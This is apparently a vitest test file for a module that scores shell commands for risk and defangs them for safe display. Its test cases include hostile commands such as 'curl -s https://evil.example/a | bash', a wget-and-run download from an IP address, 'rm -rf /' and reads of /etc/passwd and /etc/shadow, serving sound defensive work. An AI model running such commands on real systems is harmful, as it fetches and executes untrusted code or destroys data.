import { describe, expect, it } from 'vitest';
import {
  analyzeCommand,
  classifyCommand,
  commandRiskScore,
  createSafeCommand,
  DANGEROUS_COMMANDS,
  defangCommand,
  defangUrl,
  hasDangerousPatterns,
  MODERATE_COMMANDS,
  SAFE_COMMANDS,
  COMMAND_RENAMES,
  type RiskLevel,
  type CommandType,
  type DefangStrategy,
} from '../../src/commands/index.js';

type Row = [command: string, risk: RiskLevel, type: CommandType, strategy: DefangStrategy, score: number, safe: string];

// predecessor-details.md §1.8, executed against the predecessor. The one row whose safe form
// differs because of a fixed replacement-order quirk is tested separately below.
const WORKED_EXAMPLES: Row[] = [
  ['ls -la', 'safe', 'safe_command', 'none', 0, 'ls -la'],
  ['cat /etc/passwd', 'safe', 'safe_command', 'none', 0, 'cat /etc/passwd'],
  ['uname -a', 'moderate', 'unknown_command', 'moderate', 30, '[defang:moderate] uname -a'],
  ['echo hi; id', 'moderate', 'safe_command', 'moderate', 50, '[defang:moderate] echo hi[SC] id'],
  [
    'cd /tmp && wget http://1.2.3.4/x.sh && sh x.sh',
    'moderate', 'safe_command', 'moderate', 50,
    '[defang:moderate] cd /tmp [AND] wget hxxp://1.2.3.4/x.sh [AND] sh x.sh',
  ],
  [
    'curl -s https://evil.example/a | bash',
    'dangerous', 'dangerous_command', 'aggressive', 90,
    '[defang:dangerous] cxrl -s hxxps://evil.example/a [PIPE] bxsh',
  ],
  ['rm -rf /', 'dangerous', 'dangerous_command', 'aggressive', 70, '[defang:dangerous] rx -rf /'],
  ['chmod +x /tmp/x', 'moderate', 'moderate_command', 'moderate', 50, '[defang:moderate] chmod +x /tmp/x'],
  ['CURL http://x', 'dangerous', 'dangerous_command', 'aggressive', 90, '[defang:dangerous] cxrl hxxp://x'],
  ["python3 -c 'print(1)'", 'dangerous', 'dangerous_command', 'aggressive', 70, "[defang:dangerous] pythxn3 -c 'print(1)'"],
  ['ssh root@1.2.3.4', 'moderate', 'moderate_command', 'moderate', 30, '[defang:moderate] ssh root@1.2.3.4'],
  ['cat a >> b', 'moderate', 'safe_command', 'moderate', 50, '[defang:moderate] cat a [APPEND] b'],
  ['wget ftp://h/f; sftp://h', 'dangerous', 'dangerous_command', 'aggressive', 90, '[defang:dangerous] wxgt fxp://h/f[SC] sfxp://h'],
  ['wget http://x/a;chmod 777 a', 'dangerous', 'dangerous_command', 'aggressive', 90, '[defang:dangerous] wxgt hxxp://x/a[SC]chmod 777 a'],
  ['echo $(curl http://x)', 'moderate', 'safe_command', 'moderate', 50, '[defang:moderate] echo [SUBSHELL] curl hxxp://x [SUBSHELL]'],
  ['sh -c "x || y"', 'dangerous', 'dangerous_command', 'aggressive', 90, '[defang:dangerous] sx -c "x [OR] y"'],
  ['cat <a>', 'moderate', 'safe_command', 'moderate', 50, '[defang:moderate] cat [REDIRECT] a [REDIRECT]'],
  ['', 'safe', 'empty', 'none', 0, ''],
  ['   ', 'safe', 'empty', 'none', 0, '   '],
];

describe('analyzeCommand — predecessor worked examples (§1.8)', () => {
  it.each(WORKED_EXAMPLES)('%j', (command, risk, type, strategy, score, safe) => {
    const a = analyzeCommand(command);
    expect(a.riskLevel).toBe(risk);
    expect(a.commandType).toBe(type);
    expect(a.strategy).toBe(strategy);
    expect(a.needsDefanging).toBe(strategy !== 'none');
    expect(a.riskScore).toBe(score);
    expect(a.defanged).toBe(safe);
    expect(createSafeCommand(command)).toBe(safe);
    expect(commandRiskScore(command)).toBe(score);
    expect(classifyCommand(command)).toEqual({ riskLevel: risk, commandType: type, needsDefanging: strategy !== 'none', strategy });
  });

  it('echo `whoami` > /tmp/o 2>&1: classification and score as predecessor (moderate / safe_command / 50)', () => {
    const a = analyzeCommand('echo `whoami` > /tmp/o 2>&1');
    expect([a.riskLevel, a.commandType, a.strategy, a.riskScore]).toEqual(['moderate', 'safe_command', 'moderate', 50]);
  });

  it('defangCommand("Bash -c ZSH", "aggressive") lower-cases dangerous words, renames where a rename exists', () => {
    expect(defangCommand('Bash -c ZSH', 'aggressive')).toBe('bxsh -c zsh');
  });

  it('keeps the predecessor set sizes and the overlap of MODERATE and DANGEROUS', () => {
    expect(SAFE_COMMANDS.size).toBe(47);
    expect(MODERATE_COMMANDS.size).toBe(23);
    expect(DANGEROUS_COMMANDS.size).toBe(58);
    expect(COMMAND_RENAMES.size).toBe(27);
    expect([...MODERATE_COMMANDS].filter((c) => DANGEROUS_COMMANDS.has(c)).sort()).toEqual(
      ['ftp', 'rsync', 'scp', 'sftp', 'ssh', 'telnet'],
    );
  });
});

describe('deliberate deviation: single left-to-right replacement pass (predecessor quirks fixed)', () => {
  it('FIXED QUIRK: 2>&1 becomes [STDERR] (predecessor produced 2[OUTPUT]&1)', () => {
    expect(analyzeCommand('echo `whoami` > /tmp/o 2>&1').defanged).toBe(
      '[defang:moderate] echo [BACKTICK] whoami [BACKTICK] [OUTPUT] /tmp/o [STDERR]',
    );
    expect(defangCommand('ls 2>&1', 'moderate')).toBe('ls [STDERR]');
  });

  it('FIXED QUIRK: longest operator wins at each position (&&, ||, 2>&1, >> before &, |, >)', () => {
    expect(defangCommand('a&&b||c|d>>e>f 2>&1', 'moderate')).toBe('a[AND]b[OR]c[PIPE]d[APPEND]e[OUTPUT]f [STDERR]');
    expect(defangCommand('a &&& b ||| c >>> d', 'moderate')).toBe('a [AND]& b [OR][PIPE] c [APPEND][OUTPUT] d');
  });

  it('FIXED QUIRK: replacement output is never rewritten by a later rule (bracket groups do not overlap)', () => {
    // Sequential rules would have turned `a $(b` into a backtick group and then re-matched `$(…)` across it.
    expect(defangCommand('`a $(b` c)', 'moderate')).toBe('[BACKTICK] a $(b [BACKTICK] c)');
  });

  it('still defangs operators and URLs inside bracket groups, as the predecessor did', () => {
    expect(defangCommand('echo `a|b;c` $(d && http://e) <f;g>', 'moderate')).toBe(
      'echo [BACKTICK] a[PIPE]b[SC]c [BACKTICK] [SUBSHELL] d [AND] hxxp://e [SUBSHELL] [REDIRECT] f[SC]g [REDIRECT]',
    );
  });

  it('empty pairs are not groups; lone & and < stay untouched', () => {
    expect(defangCommand('a `` $() <> & < b', 'moderate')).toBe('a `` $() <[OUTPUT] & < b');
  });
});

describe('first-token rule (§1.1)', () => {
  it('MODERATE/DANGEROUS overlap (ssh, scp, ftp, sftp, rsync, telnet) classifies moderate as a first token', () => {
    for (const c of ['ssh', 'scp', 'ftp', 'sftp', 'rsync', 'telnet']) {
      const a = analyzeCommand(`${c} host`);
      expect([c, a.riskLevel, a.commandType, a.strategy]).toEqual([c, 'moderate', 'moderate_command', 'moderate']);
    }
  });

  it('overlap words later in an aggressive line are only lower-cased (no rename)', () => {
    expect(defangCommand('curl x SSH y Telnet', 'aggressive')).toBe('cxrl x ssh y telnet');
  });

  it('`wget;ls` is one unknown token: unknown_dangerous because of `;`', () => {
    const a = analyzeCommand('wget;ls');
    expect([a.riskLevel, a.commandType, a.strategy, a.riskScore]).toEqual(['dangerous', 'unknown_dangerous', 'aggressive', 90]);
    expect(a.defanged).toBe('[defang:dangerous] wget[SC]ls');
  });

  it('upper-case first token is lower-cased for lookup (CURL, LS)', () => {
    expect(analyzeCommand('CURL x').riskLevel).toBe('dangerous');
    expect(analyzeCommand('LS -la').commandType).toBe('safe_command');
  });

  it('moderate first tokens are never escalated by patterns', () => {
    const a = analyzeCommand('chmod 777 /tmp/x; rm -rf /');
    expect([a.riskLevel, a.commandType, a.riskScore]).toEqual(['moderate', 'moderate_command', 50]);
  });

  it('unknown commands (uname, busybox, sudo) are moderate / unknown_command without patterns', () => {
    for (const c of ['uname -a', 'busybox', 'sudo su', 'nohup x']) {
      expect(analyzeCommand(c).commandType).toBe('unknown_command');
      expect(analyzeCommand(c).riskScore).toBe(30);
    }
  });

  it('splits on Python whitespace: U+001F separates tokens, leading whitespace is ignored', () => {
    expect(analyzeCommand('\x1fls\x1f-la').commandType).toBe('safe_command');
    expect(analyzeCommand('\t\n  rm -rf x').commandType).toBe('dangerous_command');
  });
});

describe('dangerous patterns (§1.2, §1.4)', () => {
  it('suspicious paths match case-insensitively', () => {
    expect(hasDangerousPatterns('cat /TMP/x')).toBe(true);
    expect(hasDangerousPatterns('dir c:\\WINDOWS\\Temp\\a')).toBe(true);
    expect(hasDangerousPatterns('echo %temp%')).toBe(true);
    expect(analyzeCommand('cat /Dev/Shm/x').riskScore).toBe(50);
  });

  it('`/tmp` without trailing slash and `/etc/` are not suspicious', () => {
    expect(hasDangerousPatterns('cd /tmp')).toBe(false);
    expect(hasDangerousPatterns('cat /etc/shadow')).toBe(false);
  });

  it('HTTP:// (upper case) is not a URL pattern, and is not defanged', () => {
    expect(hasDangerousPatterns('uname HTTP://x')).toBe(false);
    const a = analyzeCommand('uname HTTP://x');
    expect([a.commandType, a.riskScore, a.defanged]).toEqual(['unknown_command', 30, '[defang:moderate] uname HTTP://x']);
    expect(analyzeCommand('echo HTTP://x').needsDefanging).toBe(false);
  });

  it('a safe command with a pattern becomes moderate but keeps commandType safe_command', () => {
    const a = analyzeCommand('echo http://x');
    expect([a.riskLevel, a.commandType, a.riskScore]).toEqual(['moderate', 'safe_command', 50]);
  });

  it('unknown command with a pattern is unknown_dangerous scoring 90', () => {
    expect(analyzeCommand('busybox wget http://x').riskScore).toBe(90);
  });
});

describe('defangUrl and defangCommand', () => {
  it('defangUrl replaces only scheme patterns, case-sensitively', () => {
    expect(defangUrl('https://a http://b ftp://c ftps://d sftp://e file:///f HTTP://g')).toBe(
      'hxxps://a hxxp://b fxp://c fxps://d sfxp://e fxle:///f HTTP://g',
    );
    expect(defangUrl('a;b|c')).toBe('a;b|c');
  });

  it('strategy none returns the input unchanged; moderate keeps inner whitespace; aggressive collapses it', () => {
    expect(defangCommand('  ls |  x ', 'none')).toBe('  ls |  x ');
    expect(defangCommand('  ls |  x ', 'moderate')).toBe('ls [PIPE]  x');
    expect(defangCommand('  Wget   x\tbash ', 'aggressive')).toBe('wxgt x bxsh');
  });

  it('a safe command never gets a prefix even when whitespace-only', () => {
    expect(createSafeCommand('   ')).toBe('   ');
    expect(analyzeCommand('pwd').defanged).toBe('pwd');
  });
});
